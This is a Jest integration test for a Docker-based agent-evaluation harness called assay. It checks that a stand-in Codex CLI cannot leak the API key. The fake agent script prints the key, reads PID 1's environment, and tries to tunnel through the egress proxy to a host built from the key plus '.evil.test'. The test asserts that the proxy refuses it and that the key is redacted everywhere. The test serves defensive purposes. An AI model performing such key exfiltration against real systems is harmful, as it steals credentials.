/**
 * `assay run --agent codex|claude-code` as a user runs it (CLI child process, Docker), without any vendor service:
 * the task is examples/tasks/hello-judge with a stand-in `codex` on PATH in its work image (a temp image built FROM
 * assay/base:bookworm, no registry). The stand-in reports what it sees (argv, its env, PID 1's env, the proxy),
 * prints the API key on stdout and stderr (the harness must redact it), and asks the egress proxy for a host that is
 * not listed (403, never resolved: no packet leaves the machine) and for a host named after the key. Then the key is
 * looked for everywhere: CLI output and error text, the ledger's events, every file under ASSAY_HOME.
 * `claude-code` on the same image (no `claude`) fails cleanly before the run starts.
 */
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, appendFileSync, chmodSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Docker from 'dockerode';
import { assay } from '../support/cli';
import { REPO_ROOT } from '../support/child-process';
import { describeDocker } from '../support/docker';
import { homeEvents } from './support/home-events';

jest.setTimeout(240_000);

const KEY = 'sk-Assay-Test-4F1c2b9e7D0a6c35e8b1'; // a valid DNS label (sent as a host name, lowercased by the proxy)
const ANTHROPIC_KEY = 'sk-ant-assay-test-9a8b7c6d5e4f3a2b1c0d';

const FAKE_CODEX = `#!/bin/bash
# stand-in for the Codex CLI: reports what it was given; never reaches a vendor
echo "argv0=$0"
echo "argv=$1 $2 $3 $4 $5 $6 $7 $8"
echo "exec-env-key=$([ -n "\${OPENAI_API_KEY:-}" ] && echo yes || echo no)"
echo "init-env-readable=$(tr '\\0' '\\n' < /proc/1/environ | grep -c '^PATH=')"
echo "init-env-key=$(tr '\\0' '\\n' < /proc/1/environ | grep -c 'OPENAI_API_KEY')"
echo "proxy=$HTTPS_PROXY $https_proxy $ALL_PROXY no_proxy=[$NO_PROXY]"
echo "nets=$(ls /sys/class/net | tr '\\n' ' ')"
echo "leak-stdout $OPENAI_API_KEY end"
echo "leak-stderr $OPENAI_API_KEY end" >&2
python3 -I - <<'EOF'
import http.client, os
def tunnel(host, port):
    c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
    c.set_tunnel(host, port)
    try:
        c.connect()
        return "open"
    except OSError as e:
        return str(e)
    finally:
        c.close()
print("not-listed=" + tunnel("blocked.assay.test", 443))
print("key-host=" + tunnel(os.environ["OPENAI_API_KEY"] + ".evil.test", 443))
EOF
exit 0
`;

function filesUnder(dir: string, out: string[] = []): string[] {
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) filesUnder(p, out);
    else if (e.isFile()) out.push(p);
  }
  return out;
}

describeDocker('vendor agents (CLI, Docker, a stand-in codex)', () => {
  let root: string;
  let home: string;
  let task: string;
  const docker = new Docker();
  const saved = { openai: process.env.OPENAI_API_KEY, anthropic: process.env.ANTHROPIC_API_KEY };

  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), 'assay-vendor-'));
    home = join(root, 'home');
    task = join(root, 'task');
    cpSync(join(REPO_ROOT, 'examples/tasks/hello-judge'), task, { recursive: true });
    mkdirSync(join(task, 'environment/fake-bin'));
    writeFileSync(join(task, 'environment/fake-bin/codex'), FAKE_CODEX);
    chmodSync(join(task, 'environment/fake-bin/codex'), 0o755);
    appendFileSync(join(task, 'environment/Dockerfile'), 'COPY fake-bin/ /usr/local/bin/\n');
    process.env.OPENAI_API_KEY = KEY;
    process.env.ANTHROPIC_API_KEY = ANTHROPIC_KEY;
    const r = await assay(['ledger', 'init', '--origin', 'assay.test/vendor'], home);
    expect(r.code).toBe(0);
  }, 60_000);

  afterAll(() => {
    for (const [k, v] of [
      ['OPENAI_API_KEY', saved.openai],
      ['ANTHROPIC_API_KEY', saved.anthropic],
    ] as const) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
    rmSync(root, { recursive: true, force: true });
  });

  const events = (stream?: string) => homeEvents(home, stream);

  it('codex runs behind the egress proxy; the key is in its exec env only and nowhere in output, ledger or files', async () => {
    const r = await assay(['run', task, '--agent', 'codex:gpt-test', '--run-id', 'codex1', '--snapshot-interval', '0', '--json'], home, 220_000);
    const all = `${r.stdout}\n${r.stderr}`;
    expect(r.code).toBe(0);
    const rep = JSON.parse(r.stdout) as { status: string; agentExitCode: number };
    expect(rep).toMatchObject({ status: 'no_valid_submission', agentExitCode: 0 });
    // what the stand-in saw (its output goes to stderr with --json)
    expect(r.stderr).toContain('argv0=/usr/local/bin/codex');
    expect(r.stderr).toContain('argv=exec --full-auto --skip-git-repo-check --cd /workspace --model gpt-test');
    expect(r.stderr).toContain('exec-env-key=yes');
    expect(r.stderr).toContain('init-env-readable=1');
    expect(r.stderr).toContain('init-env-key=0'); // not in the container's create-time environment
    expect(r.stderr).toContain('proxy=http://127.0.0.1:3128 http://127.0.0.1:3128 http://127.0.0.1:3128 no_proxy=[]');
    expect(r.stderr).toContain('nets=lo ');
    expect(r.stderr).toMatch(/not-listed=Tunnel connection failed: 403/);
    expect(r.stderr).toMatch(/key-host=Tunnel connection failed: 403/);
    expect(r.stderr).toContain('leak-stdout [redacted] end');
    expect(r.stderr).toContain('leak-stderr [redacted] end');
    // the proxy's records, in the run log, redacted
    expect(r.stderr).toMatch(/egress proxy on .*egress\.sock: CONNECT to api\.openai\.com port 443/);
    expect(r.stderr).toContain('egress refused 403 blocked.assay.test:443');
    expect(r.stderr).toContain('egress refused 403 [redacted].evil.test:443');
    expect(r.stderr).toMatch(/egress: allowed none; refused .*blocked\.assay\.test:443 ×1/);
    expect(all).not.toContain(KEY);
    expect(all.toLowerCase()).not.toContain(KEY.toLowerCase());

    const egress = JSON.parse(readFileSync(join(home, 'runs/codex1/egress.json'), 'utf8')) as {
      refused: Record<string, number>;
      allowed: Record<string, number>;
    };
    expect(egress.allowed).toEqual({});
    expect(egress.refused).toEqual({ 'blocked.assay.test:443': 1, '[redacted].evil.test:443': 1 });

    const run = await events('run-codex1');
    expect(run[0]).toMatchObject({ type: 'RunStarted', data: { agent: 'codex', model: 'gpt-test' } });
    const work = run.find((e) => e.type === 'WorkStarted');
    expect(work?.data.limits).toMatchObject({ network: 'none', egress: 'connect-proxy', egressHosts: ['api.openai.com'], egressPorts: [443] });
    expect(JSON.stringify(await events()).toLowerCase()).not.toContain(KEY.toLowerCase());
    for (const f of filesUnder(home)) {
      if (statSync(f).size > 64 << 20) continue;
      const bytes = readFileSync(f);
      expect([f, bytes.includes(KEY), bytes.toString('latin1').toLowerCase().includes(KEY.toLowerCase())]).toEqual([f, false, false]);
    }
    expect(await docker.listContainers({ all: true, filters: { label: ['org.assay.role=work', 'org.assay.run=codex1'] } })).toHaveLength(0);
  });

  it('claude-code without `claude` in the image fails cleanly before the run starts, naming the binary', async () => {
    const r = await assay(['run', task, '--agent', 'claude-code', '--run-id', 'claude1', '--snapshot-interval', '0'], home, 120_000);
    expect(r.code).toBe(7); // unavailable
    expect(r.stderr).toMatch(/assay: error RUN_AGENT_UNAVAILABLE: the claude-code agent needs `claude` on PATH in the task's work image/);
    expect(r.stderr).toMatch(/environment\/Dockerfile/);
    expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
    expect(`${r.stdout}${r.stderr}`).not.toContain(ANTHROPIC_KEY);
    expect(await events('run-claude1')).toEqual([]);
    expect(await docker.listContainers({ all: true, filters: { label: ['org.assay.role=work', 'org.assay.run=claude1'] } })).toHaveLength(0);
    expect(JSON.stringify(await events())).not.toContain(ANTHROPIC_KEY);
  });

  it('a vendor agent without its key in the environment is refused before anything starts', async () => {
    delete process.env.OPENAI_API_KEY;
    try {
      const r = await assay(['run', task, '--agent', 'codex', '--run-id', 'nokey1'], home, 60_000);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/RUN_AGENT_INVALID: the codex agent needs OPENAI_API_KEY in the operator's environment/);
    } finally {
      process.env.OPENAI_API_KEY = KEY;
    }
  });
});
